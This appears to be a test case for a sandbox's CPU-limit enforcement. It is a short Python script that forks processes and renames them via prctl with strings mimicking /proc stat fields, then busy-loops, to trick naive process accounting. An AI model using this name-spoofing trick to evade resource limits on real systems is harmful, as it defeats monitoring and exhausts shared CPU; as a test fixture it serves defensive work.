# attack: computes in processes whose names look like the rest of a line of /proc, with hardly any time used
# wall: CPU time is the cgroup's; without one fields are counted from the name's end
# ending: cpu
# limits: cpu=300ms wall=3s
# modules: ctypes
import ctypes
import os

libc = ctypes.CDLL(None)
for name in (b") R 1 1 1 0 0 0", b"\n) S 0 0\n(", b"((((((()))))))"):
    if os.fork() == 0:
        libc.prctl(15, name, 0, 0, 0)
        break
while True:
    pass
